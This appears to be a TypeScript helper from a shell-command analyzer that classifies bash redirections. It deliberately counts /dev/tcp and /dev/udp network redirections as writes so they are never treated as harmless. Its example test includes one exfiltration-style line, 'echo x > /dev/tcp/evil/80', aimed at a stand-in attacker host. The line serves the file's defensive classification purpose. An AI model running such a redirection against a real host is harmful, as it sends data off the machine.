/**
 * Private helper of shell.ts: what a redirection does to files: reads one, writes one, goes to a null device, or
 * duplicates a descriptor. A network redirection (`/dev/tcp/…`) counts as a write, so that it is never lowered.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { analyzeScript } from "./shell.ts";
 * const kinds = (s: string) => analyzeScript(s).commands[0]!.redirects.map((r) => r.kind);
 * assert.deepEqual(kinds("ls > out 2>&1 < in 2>/dev/null"), ["write", "dup", "read", "null"]);
 * assert.deepEqual(kinds("echo x > /dev/tcp/evil/80"), ["write"]);
 * ```
 *
 * @module
 */
import type { Word } from "unbash";
import type { ShellRedirect } from "./shell_types.ts";
import { shellWord } from "./shell_word.ts";

/** Devices that name one of the process's descriptors. */
const DESCRIPTOR_DEVICES = /^\/dev\/(stdout|stderr|stdin|fd\/\d+)$/;

/** Classify one redirection of the parsed script. */
export function classifyRedirect(
  r: { type: string; operator: string; descriptor?: unknown; target?: Word | undefined },
): ShellRedirect {
  const d = r.descriptor as { type: string; value?: number } | undefined;
  const fd = d?.type === "FileDescriptor" ? d.value ?? null : null;
  if (r.type === "HereDoc" || r.type === "HereString") return { op: r.operator, fd, kind: "read", target: null };
  const target = r.target ? shellWord(r.target) : null;
  const value = target?.value ?? null;
  const op = r.operator;
  if ((op === ">&" || op === "<&") && value !== null && /^(\d+|-|\d+-)$/.test(value)) {
    return { op, fd, kind: "dup", target: value };
  }
  // bash opens a network connection for /dev/tcp/HOST/PORT and /dev/udp/…, reading or writing: never lowered
  if (value !== null && /^\/dev\/(tcp|udp)\//.test(value)) return { op, fd, kind: "write", target: value };
  // /dev/stdout, /dev/stderr, /dev/stdin and /dev/fd/N name descriptors: writing to one re-opens whatever the
  // descriptor is (`exec 2<f; echo x >/dev/stderr` writes f), so only /dev/null, and reads, are harmless
  if (value === "/dev/null") return { op, fd, kind: "null", target: value };
  if (value !== null && DESCRIPTOR_DEVICES.test(value)) {
    return op === "<" ? { op, fd, kind: "null", target: value } : { op, fd, kind: "write", target: null };
  }
  if (op === "<") return { op, fd, kind: "read", target: value };
  if (op === "<&") return { op, fd, kind: "read", target: value }; // `<&word` with a non-number: bash refuses
  return { op, fd, kind: "write", target: value };
}
